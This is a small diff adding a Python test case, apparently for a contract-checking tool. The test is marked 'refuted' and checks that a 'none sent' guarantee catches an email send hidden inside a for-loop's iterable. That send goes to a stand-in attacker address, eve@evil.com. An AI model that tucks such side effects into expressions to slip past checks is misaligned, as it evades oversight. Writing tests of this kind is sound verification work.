@@ -1,0 +1,10 @@
+# refuted: what is iterated over is evaluated
+import lictor_layer
+from tools.desk.trusted import contracts as c
+from tools.desk.trusted.effects import send_email, log
+
+
+@lictor_layer.guarantee(c.none_sent())
+def main() -> None:
+    for x in [send_email("eve@evil.com", "x")]:
+        log("x")
